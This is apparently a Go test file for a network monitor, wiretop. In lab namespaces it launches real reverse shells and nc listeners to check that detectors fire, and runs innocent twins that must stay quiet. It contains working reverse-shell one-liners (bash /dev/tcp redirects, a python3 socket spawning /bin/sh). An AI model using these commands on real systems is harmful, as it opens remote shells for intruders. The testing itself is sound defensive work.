package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// Real-tool lab tests of the detectors that read /proc and the socket table:
// reverse_shell (bash -i >& /dev/tcp/HOST/PORT 0>&1) and new_listener (nc -l on a new
// port). The socket table is per network namespace, so wiretop runs where the shell or
// the listener runs: inside the lab namespace (prefix `ip netns exec NS`), with the
// attacker's side across the veth; one reverse-shell case also runs everything from the
// root namespace. Each attack has a quiet twin of the same programs used innocently,
// which must raise no alert at all. Lab subnets 143-146.

// proclabWithin is how soon after the attack starts (or stops) its alert must be
// printed (or resolved): issue 7's acceptance bound.
const proclabWithin = 5 * time.Second

// proclabBuf is an io.Writer that a test may read while a process writes to it.
type proclabBuf struct {
	mu sync.Mutex
	b  strings.Builder
}

func (b *proclabBuf) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.Write(p)
}

func (b *proclabBuf) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.String()
}

// proclabWaitFor polls cond every 50 ms until it holds or d has passed.
func proclabWaitFor(d time.Duration, cond func() bool) bool {
	deadline := time.Now().Add(d)
	for {
		if cond() {
			return true
		}
		if time.Now().After(deadline) {
			return false
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// proclabAlert waits up to d for an alert line of the running wiretop that match
// accepts, and returns it (nil when none came).
func proclabAlert(w *wtRun, d time.Duration, match func(record) bool) record {
	var hit record
	proclabWaitFor(d, func() bool {
		w.mu.Lock()
		defer w.mu.Unlock()
		for _, l := range w.lines {
			var rec record
			if json.Unmarshal([]byte(l), &rec) == nil && rec["type"] == "alert" && match(rec) {
				hit = rec
				return true
			}
		}
		return false
	})
	return hit
}

// proclabAlertKey matches a firing or resolved alert by rule and key.
func proclabAlertKey(rule, key, state string) func(record) bool {
	return func(a record) bool { return a["rule"] == rule && a["key"] == key && a["state"] == state }
}

// proclabStop stops wiretop (SIGINT) and returns its alert lines, each logged.
func proclabStop(t *testing.T, w *wtRun) []record {
	t.Helper()
	_ = w.cmd.Process.Signal(syscall.SIGINT)
	alerts := byType(w.wait(t, 10*time.Second), "alert")
	for _, a := range alerts {
		t.Logf("alert: rule=%v state=%v key=%v evidence=%v", a["rule"], a["state"], a["key"], a["evidence"])
	}
	return alerts
}

// proclabRules writes a --rules file and returns its path.
func proclabRules(t *testing.T, text string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "rules.toml")
	if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// proclabStart starts a command (argv after prefix) in its own process group, killed
// with its group when the test ends.
func proclabStart(t *testing.T, prefix []string, args ...string) *exec.Cmd {
	t.Helper()
	argv := append(append([]string{}, prefix...), args...)
	c := exec.Command(argv[0], argv[1:]...)
	c.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	return c
}

// proclabRun starts c and registers its cleanup (the whole process group is killed).
func proclabRun(t *testing.T, c *exec.Cmd) {
	t.Helper()
	if err := c.Start(); err != nil {
		t.Fatalf("start %v: %v", c.Args, err)
	}
	t.Cleanup(func() { proclabKill(c) })
}

// proclabKill kills c's process group and reaps c.
func proclabKill(c *exec.Cmd) {
	if c.Process == nil || c.ProcessState != nil {
		return
	}
	_ = syscall.Kill(-c.Process.Pid, syscall.SIGKILL)
	_ = c.Wait()
}

// proclabSSUser is one process of an ss -p users:(...) list.
type proclabSSUser struct {
	comm string
	pid  int
	fd   int
}

var proclabUserRe = regexp.MustCompile(`\("([^"]*)",pid=(\d+),fd=(\d+)\)`)

// proclabSS runs ss -Hnp with args (under prefix: in a namespace) and returns its lines,
// each with the processes that hold the socket: the reference for the pids and fds.
func proclabSS(t *testing.T, prefix []string, args ...string) map[string][]proclabSSUser {
	t.Helper()
	argv := append(append(append([]string{}, prefix...), "ss", "-Hnp"), args...)
	out, err := exec.Command(argv[0], argv[1:]...).CombinedOutput()
	if err != nil {
		t.Fatalf("%s: %v\n%s", strings.Join(argv, " "), err, out)
	}
	lines := map[string][]proclabSSUser{}
	for _, ln := range strings.Split(strings.TrimSpace(string(out)), "\n") {
		if ln == "" {
			continue
		}
		var us []proclabSSUser
		for _, m := range proclabUserRe.FindAllStringSubmatch(ln, -1) {
			pid, _ := strconv.Atoi(m[2])
			fd, _ := strconv.Atoi(m[3])
			us = append(us, proclabSSUser{comm: m[1], pid: pid, fd: fd})
		}
		lines[strings.Join(strings.Fields(ln), " ")] = us
	}
	return lines
}

// proclabShellCase is one reverse shell: where it and wiretop run, which program is the
// shell, and the rules wiretop runs with.
type proclabShellCase struct {
	subnet int
	inNS   bool   // wiretop and the shell in the lab's namespace, the attacker on the host side; else the opposite
	shell  string // the program run as `SHELL -i` with its stdio on the connection
	script string // instead of shell: a bash -c script that connects to %[1]s port %[2]d and runs a shell on it
	rules  string // a --rules file's text ("": the defaults)
	port   int
}

// proclabShellResult is what a reverse shell run showed.
type proclabShellResult struct {
	pid      int    // the process holding the connection as fd 0 (from ss)
	comm     string // its name (from ss)
	local    string // the shell's end of the connection
	remote   string // the attacker's listener
	key      string // the alert key reverse_shell would use
	fired    record // the firing line, nil when none came within proclabWithin
	resolved record // the resolved line, nil when none came within proclabWithin of the kill
	alerts   []record
}

// proclabReverseShell runs the attacker's `nc -l` and a reverse shell (`bash -c 'SHELL -i
// >& /dev/tcp/HOST/PORT 0>&1'`) on the two sides of a lab, with wiretop (500 ms intervals)
// where the shell runs. It proves the shell answers a command sent through nc, waits up
// to proclabWithin for a firing reverse_shell alert naming the shell, kills the shell,
// waits up to proclabWithin for the resolution (when it fired), stops wiretop and
// returns what it saw.
func proclabReverseShell(t *testing.T, c proclabShellCase) proclabShellResult {
	t.Helper()
	requireTool(t, "nc")
	requireTool(t, "ss")
	l := newLab(t, c.subnet)
	// where the shell (and wiretop) run, and where the attacker listens
	shellPrefix, ncPrefix, listenIP, iface := l.prefix(), []string(nil), l.hostIP, l.nsIf
	if !c.inNS {
		shellPrefix, ncPrefix, listenIP, iface = nil, l.prefix(), l.nsIP, l.hostIf
	}
	var res proclabShellResult
	res.remote = fmt.Sprintf("%s:%d", listenIP, c.port)

	nc := proclabStart(t, ncPrefix, "nc", "-n", "-l", listenIP, strconv.Itoa(c.port))
	toShell, err := nc.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	fromShell := &proclabBuf{}
	nc.Stdout, nc.Stderr = fromShell, fromShell
	proclabRun(t, nc)
	if c.inNS {
		rootListening(t, c.port)
	} else {
		l.waitListening(t, c.port)
	}

	args := []string{"--headless", "-i", iface, "--interval", "500ms", "--db", "", "--top", "0"}
	if c.rules != "" {
		args = append(args, "--rules", proclabRules(t, c.rules))
	}
	w := startWiretop(t, shellPrefix, args...)
	w.waitFirst(t, 10*time.Second)

	script := fmt.Sprintf("%s -i >& /dev/tcp/%s/%d 0>&1", c.shell, listenIP, c.port)
	if c.script != "" {
		script = fmt.Sprintf(c.script, listenIP, c.port)
	}
	sh := proclabStart(t, shellPrefix, "bash", "-c", script)
	start := time.Now()
	proclabRun(t, sh)
	// the process that holds the connection as its stdin, from ss (the reference)
	ok := proclabWaitFor(proclabWithin, func() bool {
		for ln, us := range proclabSS(t, shellPrefix, "-t", "state", "established", "dst", res.remote) {
			for _, u := range us {
				if u.fd == 0 {
					res.pid, res.comm = u.pid, u.comm
					res.local = strings.Fields(ln)[2]
				}
			}
		}
		return res.pid != 0
	})
	if !ok {
		t.Fatalf("no process holds a connection to %s as fd 0 (nc said %q); ss: %v", res.remote, fromShell.String(),
			proclabSS(t, shellPrefix, "-t"))
	}
	t.Logf("shell: pid %d (%s; the command started as pid %d), connection %s -> %s", res.pid, res.comm, sh.Process.Pid, res.local, res.remote)
	res.key = fmt.Sprintf("reverse_shell/%d/%s", res.pid, res.remote)

	// the attacker runs a command through the connection: the shell is real
	if _, err := io.WriteString(toShell, "echo proclab-$((6*7)) $$\n"); err != nil {
		t.Fatal(err)
	}
	want := fmt.Sprintf("proclab-42 %d", res.pid)
	if !proclabWaitFor(proclabWithin, func() bool { return strings.Contains(fromShell.String(), want) }) {
		t.Fatalf("the shell did not answer %q through the connection; nc got %q", want, fromShell.String())
	}
	t.Logf("the attacker's nc got %q", want)

	res.fired = proclabAlert(w, proclabWithin-time.Since(start), proclabAlertKey("reverse_shell", res.key, "firing"))
	if res.fired != nil {
		t.Logf("reverse_shell fired %v after the shell started", time.Since(start).Round(time.Millisecond))
	}
	stopped := time.Now()
	proclabKill(sh)
	if res.fired != nil {
		res.resolved = proclabAlert(w, proclabWithin, proclabAlertKey("reverse_shell", res.key, "resolved"))
		if res.resolved != nil {
			t.Logf("reverse_shell resolved %v after the shell was killed", time.Since(stopped).Round(time.Millisecond))
		}
	} else {
		time.Sleep(time.Second) // two more intervals after the kill
	}
	res.alerts = proclabStop(t, w)
	return res
}

// proclabCheckFired checks a reverse shell run that must have fired: once, naming the
// shell's pid, comm and both ends, and resolved once after the kill.
func proclabCheckFired(t *testing.T, res proclabShellResult, wantComm string) {
	t.Helper()
	if res.fired == nil {
		t.Fatalf("no firing reverse_shell alert %s within %v of the shell's start", res.key, proclabWithin)
	}
	ev, _ := res.fired["evidence"].(map[string]any)
	if ev == nil {
		t.Fatalf("firing alert without evidence: %v", res.fired)
	}
	if pid, _ := ev["pid"].(float64); int(pid) != res.pid {
		t.Errorf("evidence pid %v, want %d (ss: the process with the connection as fd 0)", ev["pid"], res.pid)
	}
	if ev["comm"] != wantComm || res.comm != wantComm {
		t.Errorf("evidence comm %v (ss says %s), want %s", ev["comm"], res.comm, wantComm)
	}
	if ev["remote"] != res.remote {
		t.Errorf("evidence remote %v, want the listener %s", ev["remote"], res.remote)
	}
	if ev["local"] != res.local {
		t.Errorf("evidence local %v, want %s", ev["local"], res.local)
	}
	if res.fired["severity"] != "critical" {
		t.Errorf("severity %v, want critical", res.fired["severity"])
	}
	if res.resolved == nil {
		t.Errorf("reverse_shell %s not resolved within %v of the kill", res.key, proclabWithin)
	}
	n := map[string]int{}
	for _, a := range alertsOf(res.alerts, "reverse_shell", "") {
		if a["key"] == res.key {
			n[fmt.Sprint(a["state"])]++
		}
	}
	if n["firing"] != 1 || n["resolved"] != 1 {
		t.Errorf("%s: %d firing and %d resolved lines, want 1 and 1", res.key, n["firing"], n["resolved"])
	}
}

// TestLabReverseShellFires: `bash -i >& /dev/tcp/HOST/PORT 0>&1` connected to an
// attacker's `nc -l` fires reverse_shell within 5 s, naming the bash that holds the
// connection as its stdio and the listener, and resolves once when the shell is killed.
//
// Two stories: the operator's host is the lab namespace (wiretop runs there with `ip
// netns exec`, the attacker listens on the host side), and the operator's host is the
// root namespace (wiretop and the shell there, the attacker in the namespace). A third
// case runs a copy of bash named notashell with `programs = ["notashell"]`: the rule
// watches what it is configured to watch (its quiet twin, with the default programs,
// is in TestLabReverseShellQuiet).
func TestLabReverseShellFires(t *testing.T) {
	t.Run("in namespace", func(t *testing.T) {
		res := proclabReverseShell(t, proclabShellCase{subnet: 143, inNS: true, shell: "bash", port: 4601})
		proclabCheckFired(t, res, "bash")
		if len(res.alerts) != 2 {
			t.Errorf("%d alert lines, want 2 (the reverse shell's firing and resolution)", len(res.alerts))
		}
	})
	t.Run("root namespace", func(t *testing.T) {
		// the root namespace is shared with the rest of the host: only this shell's
		// alerts are judged
		res := proclabReverseShell(t, proclabShellCase{subnet: 144, inNS: false, shell: "bash", port: 4602})
		proclabCheckFired(t, res, "bash")
	})
	// the shell is a child that gets the connection as its stdio while its parent keeps
	// it on another fd (the parent has the lower pid)
	t.Run("forked shell", func(t *testing.T) {
		res := proclabReverseShell(t, proclabShellCase{subnet: 143, inNS: true, port: 4605,
			script: "exec 196<>/dev/tcp/%[1]s/%[2]d; sh <&196 >&196 2>&196"})
		proclabCheckFired(t, res, "sh")
	})
	t.Run("python3 spawns sh", func(t *testing.T) {
		requireTool(t, "python3")
		res := proclabReverseShell(t, proclabShellCase{subnet: 143, inNS: true, port: 4606,
			script: `python3 -c 'import socket, subprocess; s = socket.create_connection(("%[1]s", %[2]d)); ` +
				`subprocess.call(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)'`})
		proclabCheckFired(t, res, "sh")
	})
	t.Run("configured program", func(t *testing.T) {
		res := proclabReverseShell(t, proclabShellCase{subnet: 143, inNS: true, shell: proclabNotAShell(t), port: 4603,
			rules: "[reverse_shell]\nprograms = [\"notashell\"]\n"})
		proclabCheckFired(t, res, "notashell")
	})
}

// proclabNotAShell copies bash to a program named notashell (not in reverse_shell's
// default programs) and returns its path.
func proclabNotAShell(t *testing.T) string {
	t.Helper()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(bash)
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(t.TempDir(), "notashell")
	if err := os.WriteFile(p, b, 0o755); err != nil {
		t.Fatal(err)
	}
	return p
}

// proclabHoldServer listens on addr (in the test's namespace): it greets each connection
// with "hello\n", counts the bytes it receives, and holds the connection for hold before
// closing it, so that the client's socket lives across several intervals.
func proclabHoldServer(t *testing.T, addr string, hold time.Duration) (conns, bytes *atomic.Int64) {
	t.Helper()
	ln, err := net.Listen("tcp4", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	conns, bytes = new(atomic.Int64), new(atomic.Int64)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			conns.Add(1)
			go func() {
				defer c.Close()
				_, _ = io.WriteString(c, "hello\n")
				_ = c.SetReadDeadline(time.Now().Add(hold))
				n, _ := io.Copy(io.Discard, c) // until the client closes or hold has passed
				bytes.Add(n)
			}()
		}
	}()
	return conns, bytes
}

// proclabHTTPServer serves 100 KB on addr (in the test's namespace) after a delay, so
// that a client's connection lives across intervals; it counts the requests.
func proclabHTTPServer(t *testing.T, addr string, delay time.Duration) *atomic.Int64 {
	t.Helper()
	ln, err := net.Listen("tcp4", addr)
	if err != nil {
		t.Fatal(err)
	}
	n := new(atomic.Int64)
	body := strings.Repeat("x", 100<<10)
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n.Add(1)
		time.Sleep(delay)
		_, _ = io.WriteString(w, body)
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { srv.Close() })
	return n
}

// TestLabReverseShellQuiet: the programs of a reverse shell used innocently, in the lab
// namespace where wiretop runs, each holding a connection to the host side across
// several intervals, raise no alert at all: bash with /dev/tcp on fd 3, `nc HOST PORT <
// file`, python3 and curl fetching over HTTP, interactive bashes whose stdio is a pipe
// or a pty, and (a case of its own) notashell, a copy of bash outside the default
// programs, as a real reverse shell.
func TestLabReverseShellQuiet(t *testing.T) {
	t.Run("innocent uses", func(t *testing.T) {
		proclabQuietUses(t)
	})
	t.Run("unwatched program", func(t *testing.T) {
		res := proclabReverseShell(t, proclabShellCase{subnet: 145, inNS: true, shell: proclabNotAShell(t), port: 4604})
		if res.comm != "notashell" {
			t.Errorf("ss says the shell is %q, want notashell", res.comm)
		}
		if len(res.alerts) != 0 {
			t.Fatalf("%d alerts for a program outside reverse_shell's programs, first: %v", len(res.alerts), res.alerts[0])
		}
	})
}

func proclabQuietUses(t *testing.T) {
	requireTool(t, "nc")
	requireTool(t, "curl")
	requireTool(t, "python3")
	requireTool(t, "script")
	l := newLab(t, 145)
	holdAddr := l.hostIP + ":4611"
	conns, recv := proclabHoldServer(t, holdAddr, 3*time.Second)
	reqs := proclabHTTPServer(t, l.hostIP+":4612", 1500*time.Millisecond)
	url := "http://" + l.hostIP + ":4612/"
	file := filepath.Join(t.TempDir(), "upload")
	if err := os.WriteFile(file, []byte(strings.Repeat("upload\n", 1000)), 0o644); err != nil {
		t.Fatal(err)
	}

	w := startWiretop(t, l.prefix(), "--headless", "-i", l.nsIf, "--interval", "500ms", "--db", "", "--top", "0")
	w.waitFirst(t, 10*time.Second)

	// each use keeps its connection for about 1.5 to 3 s, many intervals
	tcp := fmt.Sprintf("/dev/tcp/%s/4611", l.hostIP)
	interactive := fmt.Sprintf("exec 3<>%s; read -r -u 3 line; echo got:$line; sleep 2; exit\n", tcp)
	uses := []struct {
		name  string
		args  []string
		stdin string // "": /dev/null
		want  string // in the output
	}{
		{"bash, /dev/tcp on fd 3", []string{"bash", "-c", fmt.Sprintf(
			"exec 3<>%s; read -r -u 3 line; echo got:$line; printf 'ping\\n' >&3; sleep 2; exec 3>&-", tcp)}, "", "got:hello"},
		{"nc HOST PORT < file", []string{"bash", "-c", fmt.Sprintf("nc -n %s 4611 < %s", l.hostIP, file)}, "", "hello"},
		{"python3 urllib", []string{"python3", "-c", fmt.Sprintf(
			"import urllib.request; print('fetched', len(urllib.request.urlopen(%q, timeout=10).read()))", url)}, "", "fetched 102400"},
		{"curl", []string{"curl", "-sS", "-o", "/dev/null", "-w", "curl %{size_download}", url}, "", "curl 102400"},
		{"interactive bash on pipes", []string{"bash", "-i"}, interactive, "got:hello"},
		{"interactive bash on a pty", []string{"script", "-qfec", "bash -i", "/dev/null"}, interactive, "got:hello"},
	}
	outs := make([]*proclabBuf, len(uses))
	cmds := make([]*exec.Cmd, len(uses))
	for i, u := range uses {
		c := proclabStart(t, l.prefix(), u.args...)
		outs[i] = &proclabBuf{}
		c.Stdout, c.Stderr = outs[i], outs[i]
		if u.stdin != "" {
			c.Stdin = strings.NewReader(u.stdin)
		}
		proclabRun(t, c)
		cmds[i] = c
	}
	// while they run: the sockets are there, on fds other than 0 and 1 of watched programs.
	// Polled, since an interactive bash reads its startup files first (with bash-completion
	// installed, a second or more on a loaded machine) and each use holds its connection for
	// two seconds or more: every connection seen counts once, by its local address.
	holders := map[string]int{} // comm -> connections it holds (the lowest pid of each)
	seen := map[string]bool{}   // local addresses counted
	enough := func() bool {
		return holders["bash"] >= 3 && holders["nc"] >= 1 && holders["python3"] >= 1 && holders["curl"] >= 1
	}
	for deadline := time.Now().Add(10 * time.Second); !enough() && time.Now().Before(deadline); time.Sleep(200 * time.Millisecond) {
		for ln, us := range proclabSS(t, l.prefix(), "-t", "state", "established") {
			f := strings.Fields(ln)
			if len(f) < 3 || len(us) == 0 || seen[f[2]] {
				continue
			}
			seen[f[2]] = true
			t.Logf("ss: %s", ln)
			low := us[0]
			for _, u := range us {
				if u.fd <= 1 {
					t.Errorf("%s (pid %d) holds a connection as fd %d: not an innocent use", u.comm, u.pid, u.fd)
				}
				if u.pid < low.pid {
					low = u
				}
			}
			holders[low.comm]++
		}
	}
	if !enough() {
		t.Errorf("connections held per program %v, want bash 3 (fd 3, pipes, pty), nc, python3, curl", holders)
	}
	for i, c := range cmds {
		done := make(chan error, 1)
		go func() { done <- c.Wait() }()
		select {
		case err := <-done:
			if err != nil {
				t.Errorf("%s: %v\n%s", uses[i].name, err, outs[i])
			}
		case <-time.After(20 * time.Second):
			t.Errorf("%s did not finish\n%s", uses[i].name, outs[i])
		}
		if !strings.Contains(outs[i].String(), uses[i].want) {
			t.Errorf("%s: output lacks %q:\n%s", uses[i].name, uses[i].want, outs[i])
		}
	}
	time.Sleep(time.Second) // two more intervals
	alerts := proclabStop(t, w)
	t.Logf("hold server: %d connections, %d bytes received; HTTP server: %d requests", conns.Load(), recv.Load(), reqs.Load())
	if conns.Load() != 4 || reqs.Load() != 2 {
		t.Errorf("%d connections to the hold server (want 4) and %d HTTP requests (want 2)", conns.Load(), reqs.Load())
	}
	if len(alerts) != 0 {
		t.Fatalf("%d alerts on innocent uses, first: %v", len(alerts), alerts[0])
	}
}

// proclabListenRules: no warm-up, a 3 s learning period.
const proclabListenRules = "warm_up = \"0s\"\n\n[new_listener]\nlearn = \"3s\"\n"

// proclabLearnt starts wiretop with rules in the lab's namespace and returns once its
// learning period (3 s from the first interval) is over.
func proclabLearnt(t *testing.T, l *lab, rules string) *wtRun {
	t.Helper()
	w := startWiretop(t, l.prefix(), "--headless", "-i", l.nsIf, "--interval", "500ms", "--db", "", "--top", "0",
		"--rules", proclabRules(t, rules))
	w.waitFirst(t, 10*time.Second)
	time.Sleep(4 * time.Second)
	return w
}

// proclabListenerPID returns the pid and name of the process that holds the TCP
// listener on port in the lab's namespace (from ss), 0 when none.
func proclabListenerPID(t *testing.T, l *lab, port int) (int, string) {
	t.Helper()
	for _, us := range proclabSS(t, l.prefix(), "-tl", fmt.Sprintf("sport = :%d", port)) {
		for _, u := range us {
			return u.pid, u.comm
		}
	}
	return 0, ""
}

// TestLabNewListenerFires: with warm_up 0s and learn 3s, `nc -l` started on a new port in
// the namespace where wiretop runs, after the learning period, fires new_listener within
// 5 s naming the port and nc's pid, and resolves once when nc stops.
func TestLabNewListenerFires(t *testing.T) {
	requireTool(t, "nc")
	requireTool(t, "ss")
	l := newLab(t, 146)
	w := proclabLearnt(t, l, proclabListenRules)

	const port = 4631
	nc := proclabStart(t, l.prefix(), "nc", "-n", "-l", l.nsIP, strconv.Itoa(port))
	if _, err := nc.StdinPipe(); err != nil { // open until nc is killed
		t.Fatal(err)
	}
	start := time.Now()
	proclabRun(t, nc)
	l.waitListening(t, port)
	pid, comm := proclabListenerPID(t, l, port)
	t.Logf("nc -l: pid %d (%s; started as pid %d)", pid, comm, nc.Process.Pid)
	key := fmt.Sprintf("new_listener/tcp/%d", port)
	fired := proclabAlert(w, proclabWithin-time.Since(start), proclabAlertKey("new_listener", key, "firing"))
	if fired == nil {
		proclabStop(t, w)
		t.Fatalf("no firing %s within %v of nc's start", key, proclabWithin)
	}
	t.Logf("new_listener fired %v after nc started", time.Since(start).Round(time.Millisecond))
	stopped := time.Now()
	proclabKill(nc)
	resolved := proclabAlert(w, proclabWithin, proclabAlertKey("new_listener", key, "resolved"))
	if resolved != nil {
		t.Logf("new_listener resolved %v after nc was killed", time.Since(stopped).Round(time.Millisecond))
	}
	time.Sleep(time.Second)
	alerts := proclabStop(t, w)

	ev, _ := fired["evidence"].(map[string]any)
	if ev == nil {
		t.Fatalf("firing alert without evidence: %v", fired)
	}
	if p, _ := ev["port"].(float64); int(p) != port {
		t.Errorf("evidence port %v, want %d", ev["port"], port)
	}
	if p, _ := ev["pid"].(float64); int(p) != pid || pid == 0 {
		t.Errorf("evidence pid %v, want %d (ss)", ev["pid"], pid)
	}
	if ev["comm"] != "nc" || comm != "nc" {
		t.Errorf("evidence comm %v (ss says %s), want nc", ev["comm"], comm)
	}
	if want := fmt.Sprintf("%s:%d", l.nsIP, port); ev["local"] != want || ev["proto"] != "tcp" {
		t.Errorf("evidence proto %v local %v, want tcp %s", ev["proto"], ev["local"], want)
	}
	if resolved == nil {
		t.Errorf("%s not resolved within %v of nc's end", key, proclabWithin)
	}
	n := map[string]int{}
	for _, a := range alertsOf(alerts, "new_listener", "") {
		if a["key"] == key {
			n[fmt.Sprint(a["state"])]++
		}
	}
	if n["firing"] != 1 || n["resolved"] != 1 {
		t.Errorf("%s: %d firing and %d resolved lines, want 1 and 1", key, n["firing"], n["resolved"])
	}
	if len(alerts) != 2 {
		t.Errorf("%d alert lines, want 2 (nc's firing and resolution)", len(alerts))
	}
}

// TestLabNewListenerQuiet: with the same rules, in the namespace where wiretop runs, none
// of these raises an alert: listeners started before wiretop (nc -lk, python3's
// http.server), one of them restarted on the same port after the learning period, a curl
// loop and a bash loop of client connections (ephemeral ports), and UDP client sockets
// (a DNS-like query from python3's unconnected socket and from `nc -u`).
func TestLabNewListenerQuiet(t *testing.T) {
	requireTool(t, "nc")
	requireTool(t, "ss")
	requireTool(t, "curl")
	requireTool(t, "python3")
	l := newLab(t, 146)
	// the namespace's services, up before wiretop starts
	const ncPort, webPort = 4621, 4622
	startNC := func() *exec.Cmd {
		nc := proclabStart(t, l.prefix(), "nc", "-n", "-k", "-l", l.nsIP, strconv.Itoa(ncPort))
		if _, err := nc.StdinPipe(); err != nil {
			t.Fatal(err)
		}
		proclabRun(t, nc)
		l.waitListening(t, ncPort)
		return nc
	}
	nc := startNC()
	l.serve(t, webPort, "python3", "-m", "http.server", "--bind", l.nsIP, strconv.Itoa(webPort))
	// the host side: a TCP server and a DNS-like UDP server
	accepted := acceptAndClose(t, l.hostIP+":4623")
	udp, err := net.ListenPacket("udp4", l.hostIP+":5354")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { udp.Close() })
	var queries atomic.Int64
	go func() {
		buf := make([]byte, 512)
		for {
			n, from, err := udp.ReadFrom(buf)
			if err != nil {
				return
			}
			queries.Add(1)
			_, _ = udp.WriteTo(append([]byte("answer:"), buf[:n]...), from)
		}
	}()

	w := proclabLearnt(t, l, proclabListenRules)

	// the listener restarts on the same port, as a service does
	oldPID, _ := proclabListenerPID(t, l, ncPort)
	proclabKill(nc)
	if !proclabWaitFor(5*time.Second, func() bool { p, _ := proclabListenerPID(t, l, ncPort); return p == 0 }) {
		t.Fatalf("nc on port %d did not stop", ncPort)
	}
	startNC()
	newPID, _ := proclabListenerPID(t, l, ncPort)
	t.Logf("nc -lk on port %d restarted: pid %d, then %d", ncPort, oldPID, newPID)

	// clients: UDP sockets held for 2 s, a curl loop, a bash loop of connections
	udpPy := proclabStart(t, l.prefix(), "python3", "-c", fmt.Sprintf(`
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"\x12\x34 A? example.test", (%q, 5354))
s.settimeout(5)
data, _ = s.recvfrom(512)
print("python3 udp port", s.getsockname()[1], data)
time.sleep(2)
`, l.hostIP))
	pyOut := &proclabBuf{}
	udpPy.Stdout, udpPy.Stderr = pyOut, pyOut
	proclabRun(t, udpPy)
	udpNC := proclabStart(t, l.prefix(), "bash", "-c", fmt.Sprintf("printf 'A? example.test' | nc -n -u -w 2 %s 5354", l.hostIP))
	ncOut := &proclabBuf{}
	udpNC.Stdout, udpNC.Stderr = ncOut, ncOut
	proclabRun(t, udpNC)
	time.Sleep(700 * time.Millisecond)
	for ln := range proclabSS(t, l.prefix(), "-ua") {
		t.Logf("ss -ua: %s", ln)
	}
	nsRun(t, l, 30*time.Second, "bash", "-c", fmt.Sprintf(
		"for i in $(seq 1 20); do curl -sS -o /dev/null http://%s:%d/ || exit 1; done", l.nsIP, webPort))
	nsRun(t, l, 30*time.Second, "bash", "-c", fmt.Sprintf(
		"for i in $(seq 1 50); do exec 3<>/dev/tcp/%s/4623 || exit 1; exec 3<&- 3>&-; done", l.hostIP))
	for _, c := range []*exec.Cmd{udpPy, udpNC} {
		if err := c.Wait(); err != nil {
			t.Errorf("%v: %v", c.Args, err)
		}
	}
	t.Logf("python3: %s; nc -u: %q", strings.TrimSpace(pyOut.String()), ncOut.String())
	if !strings.Contains(pyOut.String(), "answer:") || !strings.Contains(ncOut.String(), "answer:") {
		t.Errorf("a UDP client got no answer")
	}
	time.Sleep(time.Second)
	alerts := proclabStop(t, w)
	t.Logf("UDP queries answered: %d, connections accepted: %d", queries.Load(), accepted.Load())
	if queries.Load() != 2 || accepted.Load() != 50 {
		t.Errorf("%d UDP queries (want 2), %d connections (want 50)", queries.Load(), accepted.Load())
	}
	if len(alerts) != 0 {
		t.Fatalf("%d alerts on known listeners and clients, first: %v", len(alerts), alerts[0])
	}
}
